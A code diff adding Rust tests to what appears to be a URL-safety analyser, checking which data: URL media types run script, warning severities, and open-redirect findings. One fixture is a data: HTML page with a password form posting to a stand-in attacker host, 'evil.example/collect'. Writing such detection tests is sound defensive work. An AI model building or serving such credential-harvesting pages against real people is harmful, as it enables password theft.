@@ -138,3 +138,76 @@ fn a_carried_data_url_says_where_its_page_leads() {
         .is_some_and(|v| v.contains("data: URL body (text/html)")));
     assert_triage_agrees(url.as_bytes(), &a);
 }
+
+/// A `data:` URL runs script only where a browser renders its media type
+/// as a page (HTML, SVG, XML): plain text, the default when no type is
+/// named, and an image are shown as they are, `dangerous-scheme` low and
+/// no "runs script" destination.
+#[test]
+fn only_a_page_media_type_runs_script() {
+    use urlscope_core::Severity;
+    for (url, script) in [
+        ("data:text/html,<p>x", true),
+        ("data:application/xhtml+xml,<p>x</p>", true),
+        ("data:image/svg+xml,<svg/>", true),
+        ("data:text/xml,<x/>", true),
+        ("data:application/xml,<x/>", true),
+        ("data:text/plain;base64,aGVsbG8=", false),
+        ("data:,hello", false),
+        ("data:image/png;base64,iVBORw0KGgo=", false),
+        ("data:application/json,{}", false),
+        // No ',': the processor refuses it, nothing renders.
+        ("data:text/html", false),
+    ] {
+        let a = analyze(url.as_bytes(), &Options::default());
+        let own = a.destinations.first().expect("its own place");
+        assert_eq!(own.runs_script, script, "{url}");
+        let scheme = a
+            .warnings
+            .iter()
+            .find(|w| w.code.code() == "dangerous-scheme")
+            .expect("dangerous-scheme");
+        let severity = if script {
+            Severity::High
+        } else {
+            Severity::Low
+        };
+        assert_eq!(scheme.severity, severity, "{url}: {}", scheme.message);
+        assert_triage_agrees(url.as_bytes(), &a);
+    }
+    // Carried in a parameter: a text data: URL is no script redirect.
+    let url = "https://victim.example/r?next=data:text/plain,hi";
+    let a = analyze(url.as_bytes(), &Options::default());
+    assert!(a.warnings.iter().all(|w| w.code.code() != "open-redirect"));
+    assert!(a.destinations.iter().all(|d| !d.runs_script));
+    assert_triage_agrees(url.as_bytes(), &a);
+}
+
+/// A data: page's namespace names and DTD identifiers are no links; its
+/// form and links are said to be the page's, not a site's redirect.
+#[test]
+fn a_data_page_names_are_no_links_and_its_links_are_its_own() {
+    let svg = "data:image/svg+xml,<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink='http://www.w3.org/1999/xlink' version=\"1.1\"><rect/></svg>";
+    let a = analyze(svg.as_bytes(), &Options::default());
+    assert!(
+        data_body(&a).children.is_empty(),
+        "{:#?}",
+        data_body(&a).children
+    );
+    assert_eq!(a.destinations.len(), 1, "{:#?}", a.destinations);
+    assert!(a.warnings.iter().all(|w| w.code.code() != "open-redirect"));
+    assert_triage_agrees(svg.as_bytes(), &a);
+    let form = "data:text/html,<form action=\"https://evil.example/collect\"><input type=password>";
+    let a = analyze(form.as_bytes(), &Options::default());
+    let redirect = a
+        .warnings
+        .iter()
+        .find(|w| w.code.code() == "open-redirect")
+        .expect("open-redirect");
+    assert_eq!(
+        redirect.message,
+        "The page this data: URL holds links to 'https://evil.example/collect': it sends what is typed into it, or its visitors, to 'evil.example'."
+    );
+    assert!(a.destinations.get(1).is_some_and(|d| d.in_data_body));
+    assert_triage_agrees(form.as_bytes(), &a);
+}
